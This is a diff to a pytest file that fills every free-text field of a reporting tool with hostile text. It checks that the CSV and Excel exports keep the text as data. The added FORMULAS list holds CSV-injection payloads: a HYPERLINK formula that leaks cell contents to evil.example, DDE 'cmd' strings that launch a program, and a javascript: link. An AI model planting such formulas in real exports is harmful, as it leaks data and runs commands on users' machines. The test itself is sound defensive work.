@@ -1,4 +1,4 @@
-"""Hostile text in every free-text field, built for real and opened in Chromium.
+"""Hostile text in every free-text field, built for real and opened in Chromium, and exported.
 
 Every string value of the demo's program files, questionnaire and organisation file (and the
 cycle and feedback run labels in mkdocs.yml, and every learner comment) is replaced by a hostile one: quotes that end attributes, tags,
@@ -8,23 +8,30 @@ fields added later are covered without a list to keep up to date. The site is th
 keystore, and every page and every decrypted report is opened at 375 px: nothing injected may
 exist in the DOM (the Content-Security-Policy would stop a script, so it cannot be the only
 check), nothing may navigate or fetch elsewhere, no CSP violation may occur, and nothing may be
-wider than the screen.
+wider than the screen. Every export (`programs export`, `scores`, `feedback`) of inputs with a
+spreadsheet formula in every free-text field holds them as data, never as formulas.
 """
 
 from __future__ import annotations
 
+import contextlib
 import copy
 import csv
+import io
 import itertools
+import json
+import os
 import re
 import shutil
 from pathlib import Path
 from typing import Any, Callable, Iterator
 
+from openpyxl import load_workbook
 import pytest
 from playwright.sync_api import Error as PlaywrightError
 import yaml
 
+from lchc_gen.cli import main as cli
 from lchc_gen.programs.checks import follow_up_reference_problems
 from lchc_gen.programs.load import reference_problems
 from lchc_gen.programs.model import Program
@@ -52,6 +59,17 @@ HOSTILE = [
     "Unbreakable" * 40,
     "A long phrase that goes on " * 30,
 ]
+# Spreadsheet formulas (OWASP: CSV injection): text to a page, and data in every export.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A3,"Click for agenda")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=HYPERLINK(\"http://evil.example/\")",
+    f'=HYPERLINK("javascript:window.__pwned=1","<b {PWN}>f</b>")',
+]
+HOSTILE += FORMULAS
 
 
 
@@ -94,14 +112,14 @@ def _organisation_ok(src: Source) -> bool:
     return org is not None and not problems and not organisation_problems(org, src, ["2026-H1", "2026-H2"])
 
 
-def _poison(path: Path, name: str, ok: Callable[[Source], bool], payloads: Iterator[str]) -> int:
+def _poison(path: Path, name: str, ok: Callable[[Source], bool], payloads: Iterator[str], tries: int = len(HOSTILE)) -> int:
     """Replace every string leaf of a YAML file by the first hostile text its checks accept."""
     tree = yaml.safe_load(path.read_text(encoding="utf-8"))
     kept = 0
     for leaf in list(_string_paths(tree)):
         if _kept_as_is(name, leaf):
             continue
-        for _ in range(len(HOSTILE)):
+        for _ in range(tries):
             trial = copy.deepcopy(tree)
             _set(trial, leaf, next(payloads))
             if ok(parse(yaml.safe_dump(trial, allow_unicode=True), name)):
@@ -248,3 +266,85 @@ def test_hostile_text_stays_text_on_every_page_and_report(browser, hostile_site:
 
     found = {"navigated away": left, "fetched from elsewhere": elsewhere, "pages": failures}
     assert not (left or elsewhere or failures), found
+
+
+# --- exports: data, never formulas ---------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _exports(root: Path) -> dict[str, Any]:
+    before = Path.cwd()
+    os.chdir(root)
+    try:
+        out: dict[str, Any] = {}
+        for name, args in (("scores", ["scores", "--format", "csv"]), ("feedback", ["feedback", "--format", "csv"])):
+            text = io.StringIO()
+            with contextlib.redirect_stdout(text):
+                assert cli(args) == 0, name
+            out[name] = list(csv.reader(io.StringIO(text.getvalue())))
+        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()) as err:
+            assert cli(["programs", "export", "--out", "programs.xlsx"]) == 0
+            out["import"] = (cli(["programs", "import", "programs.xlsx", "--out", "imported"]), err.getvalue())
+        out["workbook"] = load_workbook(root / "programs.xlsx")
+        return out
+    finally:
+        os.chdir(before)
+
+
+@pytest.fixture(scope="module")
+def formula_project(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    """The demo's inputs with a formula in every free-text field (and in every run label)."""
+    root = tmp_path_factory.mktemp("formulas")
+    for name in ("programs", "survey", "feedback"):
+        shutil.copytree(REPO / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
+    payloads = itertools.cycle(FORMULAS)
+    kept = {}
+    for program in sorted((root / "programs").glob("*.yml")):
+        kept[program.name] = _poison(program, f"programs/{program.name}", _program_ok, payloads, len(FORMULAS))
+    kept["org.yml"] = _poison(root / "survey" / "org.yml", "survey/org.yml", _organisation_ok, payloads, len(FORMULAS))
+    kept["comments"] = sum(_poison_comments(f, payloads) for f in sorted((root / "feedback").glob("*.csv")))
+    runs = iter(FORMULAS)
+    config = re.sub(r'run: (?:"[^"]*"|[^,}\n]+)', lambda m: f"run: {json.dumps(next(runs))}", (REPO / "mkdocs.yml").read_text())
+    (root / "mkdocs.yml").write_text(config)
+    sources = {p.name: parse(p.read_text(encoding="utf-8"), p.name).data for p in (root / "programs").glob("*.yml")}
+    return {"root": root, "kept": kept, "sources": sources, **_exports(root)}
+
+
+def _unsafe(field: str) -> bool:
+    """A CSV field a spreadsheet program would take for a formula: not quoted, not a plain number."""
+    if not field.startswith(FORMULA_STARTS):
+        return False
+    try:
+        float(field)
+        return False
+    except ValueError:
+        return True
+
+
+def test_every_free_text_field_took_a_formula(formula_project: dict[str, Any]) -> None:
+    assert all(n >= 10 for n in formula_project["kept"].values()), formula_project["kept"]
+
+
+def test_no_exported_workbook_cell_is_a_formula_and_import_reads_every_text_back(formula_project: dict[str, Any]) -> None:
+    book = formula_project["workbook"]
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
+    shown = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "_x000D_"))]
+    assert len(shown) >= 20 and all(c.data_type == "s" for c in shown)  # the payloads arrived, as text
+    assert formula_project["import"] == (0, "")
+    imported = formula_project["root"] / "imported"
+    for name, source in formula_project["sources"].items():
+        assert parse((imported / name).read_text(encoding="utf-8"), name).data == source, name  # as the loader reads it
+
+
+@pytest.mark.parametrize("export, columns", [("scores", ("team_name", "manager_name")), ("feedback", ("run", "text"))])
+def test_no_exported_csv_field_starts_like_a_formula(formula_project: dict[str, Any], export: str, columns: tuple[str, ...]) -> None:
+    header, *rows = formula_project[export]
+    assert rows
+    unsafe = [(header[i], v) for row in rows for i, v in enumerate(row) if _unsafe(v)]
+    assert unsafe == []
+    assert not any(_unsafe(h) for h in header)
+    for column in columns:  # the payloads arrived, quoted
+        values = [row[header.index(column)] for row in rows]
+        assert any(v.startswith("'") and v[1:].startswith(FORMULA_STARTS) for v in values), (column, values[:5])
